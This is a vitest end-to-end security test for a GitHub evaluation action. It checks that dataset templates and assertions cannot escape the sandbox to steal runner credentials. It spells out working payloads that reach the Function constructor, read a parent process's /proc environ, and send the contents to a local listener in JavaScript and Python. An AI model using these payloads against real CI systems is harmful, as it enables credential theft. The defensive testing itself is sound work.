// Issue 45's critical probe, through the bundled action (dist/index.js) with
// the runner's credentials in its environment (AWS keys and session token,
// the github-token input, the runtime and OIDC request tokens): templates
// that reach the Function constructor, in a `contains` value, a metric, a
// rubric prompt and a promptfoo prompt, try to read supereval's
// /proc/<pid>/environ, write a file and send what they read to a listener on
// 127.0.0.1.
// - On a fork's pull_request_target, with allow-dataset-code auto or false,
//   the datasets are refused by name, case and field, before any model call.
// - On a run that renders them, each fails with the refused member's name.
// Either way nothing was read, written or sent, and no secret (nor its
// base64 or hex) is in the log, a file, the comment, the check run or the cache.
import { existsSync, readdirSync, readFileSync, statSync } from 'node:fs';
import { createServer, type Server } from 'node:net';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { GITHUB_TOKEN, OWNER, REPO, REPOSITORY, pushEvent, sha, useActionFakes, type GitHubEvent } from './action-runner.js';
import { MODEL } from './triage-fixture.js';
import { tempDir } from '../helpers/tmp.js';

const fakes = useActionFakes('supereval-e2e-templates-', () => ({ text: 'Paris', usage: { inputTokens: 10, outputTokens: 1 } }));
const MARKER = path.join(tempDir('supereval-e2e-templates-marker-'), 'template-ran');
const SECRETS = {
  AWS_SESSION_TOKEN: 'IQoJb3JpZ2luX2VjEJr-fake-session-token-e2e-45',
  ACTIONS_ID_TOKEN_REQUEST_TOKEN: 'oidc-request-token-fake-e2e-45',
  ACTIONS_ID_TOKEN_REQUEST_URL: 'https://token.actions.example/oidc?audience=x',
} as const;
/** Every credential the step holds, as it could be published: raw, base64, hex. */
const SECRET_VALUES = ['AKIDFAKEFAKEFAKE', 'fake-secret-for-tests', GITHUB_TOKEN, SECRETS.AWS_SESSION_TOKEN, SECRETS.ACTIONS_ID_TOKEN_REQUEST_TOKEN];
const published = (value: string) => [value, Buffer.from(value).toString('base64').slice(0, -4), Buffer.from(value).toString('hex')];

let listener: Server;
let connections = 0;
/** What each connection sent. */
const received: string[] = [];
let port = 0;
beforeAll(async () => {
  listener = createServer((socket) => {
    connections += 1;
    const chunks: Buffer[] = [];
    socket.on('data', (chunk: Buffer) => chunks.push(chunk));
    socket.on('end', () => received.push(Buffer.concat(chunks).toString('latin1')));
  });
  await new Promise<void>((resolve) => listener.listen(0, '127.0.0.1', resolve));
  port = (listener.address() as { port: number }).port;
});
afterAll(() => new Promise<void>((resolve) => listener.close(() => resolve())));

/** What the template would run: read supereval's environ (the sandbox's parent), leave it in a file, send it out. */
const payload = () =>
  [
    "const p = process; const fs = p.getBuiltinModule('fs'); let env = '';",
    "try { env = fs.readFileSync('/proc/' + p.ppid + '/environ', 'latin1'); } catch (e) { env = String(e); }",
    `try { fs.writeFileSync(${JSON.stringify(MARKER)}, env); } catch (e) {}`,
    `try { p.getBuiltinModule('net').connect(${port}, '127.0.0.1').end(env); } catch (e) {}`,
    "return 'ran';",
  ].join(' ');
/** By a member name (refused when the dataset loads, unless a promptfoo config holds it) and by a key computed as it renders. */
const byName = () => `{{ range.constructor(${JSON.stringify(payload())})() }}`;
const computed = () => `{% set c = "constr" ~ "uctor" %}{{ range[c](${JSON.stringify(payload())})() }}`;

const qa = (id: string, assert: object[]) => ({ id, input: { query: 'capital of France?' }, expected: { ground_truth: 'Paris' }, assert });

/**
 * Dataset code that runs where templates are rendered (a run that allows it),
 * sending what it could read to the listener: inline JavaScript out of its vm
 * context (the sandbox: no /proc, no file, but Node's model leaves the
 * network open) and a python assertion (outside Node's model: it reads
 * supereval's environ, cleared when supereval started).
 */
const ESCAPES = `datasets/escapes`;
const escapes = (): Record<string, string | object | object[]> => ({
  [`${ESCAPES}/dataset.json`]: { name: 'escapes', type: 'qa' },
  [`${ESCAPES}/cases.jsonl`]: [
    qa('javascript', [
      {
        type: 'javascript',
        value: [
          "const [p] = this.constructor.constructor('return [process]')(); const fs = p.getBuiltinModule('fs'); let env;",
          "try { env = fs.readFileSync('/proc/' + p.ppid + '/environ', 'latin1'); } catch (e) { env = 'refused: ' + e.message; }",
          `try { fs.writeFileSync(${JSON.stringify(MARKER)}, 'x'); } catch (e) {}`,
          `p.getBuiltinModule('net').connect(${port}, '127.0.0.1').end('javascript|' + env + '|' + JSON.stringify(p.env));`,
          'return true;',
        ].join('\n'),
      },
    ]),
    qa('python', [
      {
        type: 'python',
        value: [
          'import os, socket',
          "data = open('/proc/%d/environ' % os.getppid(), 'rb').read()",
          `s = socket.create_connection(('127.0.0.1', ${port}))`,
          "s.sendall(b'python|' + data.replace(b'\\0', b''))",
          's.close()',
          'return True',
        ].join('\n'),
      },
    ]),
  ],
});

function checkout(): Record<string, string | object | object[]> {
  return {
    'datasets/native/dataset.json': { name: 'native', type: 'qa' },
    'datasets/native/cases.jsonl': [
      qa('value', [{ type: 'contains', value: computed() }]),
      qa('metric', [{ type: 'contains', value: 'Paris', metric: computed() }]),
      qa('rubric', [{ type: 'llm-rubric', value: 'names Paris', rubricPrompt: computed() }]),
    ],
    'datasets/pf/promptfooconfig.yaml': [
      'prompts:',
      `  - ${JSON.stringify(byName())}`,
      'providers: [echo]',
      'tests:',
      '  - description: capital',
      '    vars: { country: France }',
      '    assert:',
      `      - { type: contains, value: ${JSON.stringify(byName())} }`,
    ].join('\n'),
  };
}

const forkTarget = (): GitHubEvent => ({
  name: 'pull_request_target',
  sha: sha('base-main'),
  ref: 'refs/heads/main',
  payload: {
    action: 'synchronize',
    number: 45,
    pull_request: {
      number: 45,
      head: { sha: sha('fork-head'), ref: 'feature', repo: { full_name: 'mallory/evals' } },
      base: { sha: sha('base-main'), ref: 'main', repo: { full_name: REPOSITORY } },
    },
    repository: { full_name: REPOSITORY, name: REPO, owner: { login: OWNER }, default_branch: 'main' },
  },
});

async function step(event: GitHubEvent, inputs: Record<string, string> = {}, withEscapes = false) {
  const bedrockBefore = fakes.bedrock.stats.requests;
  const githubBefore = fakes.github.requests.length;
  const connectionsBefore = connections;
  const run = await fakes.runner.run({
    event,
    inputs: { datasets: `datasets/native\ndatasets/pf${withEscapes ? `\n${ESCAPES}` : ''}`, models: MODEL, 'judge-model': MODEL, ...inputs },
    files: { ...checkout(), ...(withEscapes ? escapes() : {}) },
    bedrockUrl: fakes.bedrock.url,
    env: SECRETS,
  });
  // Let a connection the template opened reach the listener before it is counted.
  await new Promise((resolve) => setTimeout(resolve, 200));
  return {
    run,
    bedrockCalls: fakes.bedrock.stats.requests - bedrockBefore,
    github: fakes.github.requests.slice(githubBefore),
    connections: connections - connectionsBefore,
  };
}

/** Every file under a folder, as text. */
function filesUnder(dir: string): [string, string][] {
  if (!existsSync(dir)) return [];
  return readdirSync(dir, { recursive: true, encoding: 'utf8' })
    .map((rel) => path.join(dir, rel))
    .filter((file) => statSync(file).isFile())
    .map((file) => [file, readFileSync(file, 'latin1')]);
}

function expectNothingReadWrittenOrSent(result: Awaited<ReturnType<typeof step>>): void {
  expect(existsSync(MARKER), 'the template wrote its file').toBe(false);
  expect(result.connections, 'the template reached the listener').toBe(0);
}

function expectNoSecretPublished(result: Awaited<ReturnType<typeof step>>): void {
  const { run } = result;
  const places: [string, string][] = [
    // ::add-mask:: hands the runner each secret to hide: the runner reads those lines and shows none of them.
    ['stdout', run.stdout.replace(/^::add-mask::.*$/gm, '')],
    ['stderr', run.stderr],
    ['summary', run.summary],
    ['results', JSON.stringify(run.results)],
    ['github', JSON.stringify(result.github.map((r) => [r.path, r.body]))],
    ['cache', JSON.stringify(fakes.cache.entries)],
    ...filesUnder(run.workspace).filter(([file]) => !file.includes(`${path.sep}datasets${path.sep}`)),
    ...filesUnder(path.join(path.dirname(run.workspace), '..', '_temp')),
  ];
  for (const [where, text] of places) {
    for (const secret of SECRET_VALUES) for (const form of published(secret)) expect(text.includes(form), `${form} in ${where}`).toBe(false);
  }
}

const NAMED = [
  '  native: 3 of 3 cases carry code: value (template assert.0.value: looks up a member by a computed key), ' +
    'metric (template assert.0.metric: looks up a member by a computed key), rubric (template assert.0.rubricPrompt: looks up a member by a computed key)',
  '  pf: 1 of 1 cases carry code: capital (template assert.0.value: looks up "constructor"); dataset.json gives every case template prompts[0]: looks up "constructor"',
];

describe("templates that reach for the runner's secrets, through the bundled action", () => {
  it("auto on a fork's pull_request_target: refused by name, case and field before any call; nothing read, written or sent", async () => {
    const result = await step(forkTarget());
    const { run } = result;
    expect(run.code).toBe(1);
    expect(result.bedrockCalls).toBe(0);
    const errors = run.errors.join('\n');
    expect(errors).toContain('allow-dataset-code is auto and this is a pull_request_target run of pull request #45 from the fork mallory/evals');
    for (const line of NAMED) expect(errors).toContain(line);
    expect(result.github.filter((r) => r.method !== 'GET')).toEqual([]);
    expectNothingReadWrittenOrSent(result);
    expectNoSecretPublished(result);
  });

  it('false: refused the same way', async () => {
    const result = await step(forkTarget(), { 'allow-dataset-code': 'false' });
    expect(result.run.code).toBe(1);
    expect(result.bedrockCalls).toBe(0);
    for (const line of NAMED) expect(result.run.errors.join('\n')).toContain(line);
    expectNothingReadWrittenOrSent(result);
    expectNoSecretPublished(result);
  });

  it('a run that renders them: each fails with the refused member named; nothing read, written or sent', async () => {
    const result = await step(pushEvent(sha('main-45')), {}, true);
    const { run } = result;
    expect(existsSync(MARKER), 'a file was written').toBe(false);
    // The templates sent nothing; the dataset code that ran, allowed here, had nothing secret to send.
    expect(result.connections).toBe(2);
    const sent = received.slice(-2).sort();
    // Node's own words: the script caught the refusal itself.
    expect(sent[0]).toMatch(/^javascript\|refused: Access to this API has been restricted/);
    expect(sent[1]).toBe('python|');
    for (const text of sent) for (const secret of SECRET_VALUES) expect(text.includes(secret), secret).toBe(false);
    const refused = 'supereval refuses this template: it looks up \\"constructor\\"';
    const reasons = JSON.stringify(run.results);
    // The value, the metric's (kept as written, as promptfoo does), the rubric prompt, and the promptfoo config's prompt.
    expect(reasons).toContain(refused);
    const native = run.results['native.json'] as { cases: { id: string; results: { asserts: { status: string; reason: string }[] }[] }[] };
    const row = (id: string) => native.cases.find((c) => c.id === id)?.results[0]?.asserts;
    expect(row('value')?.at(-1)).toMatchObject({ status: 'error' });
    expect(row('value')?.at(-1)?.reason).toContain('supereval refuses this template: it looks up "constructor"');
    expect(row('rubric')?.at(-1)?.reason).toContain('supereval refuses this template: it looks up "constructor"');
    const pf = run.results['pf.json'] as { cases: { results: { error?: string }[] }[] };
    expect(pf.cases[0]?.results[0]?.error).toContain('supereval refuses this template: it looks up "constructor"');
    expectNoSecretPublished(result);
  });
});
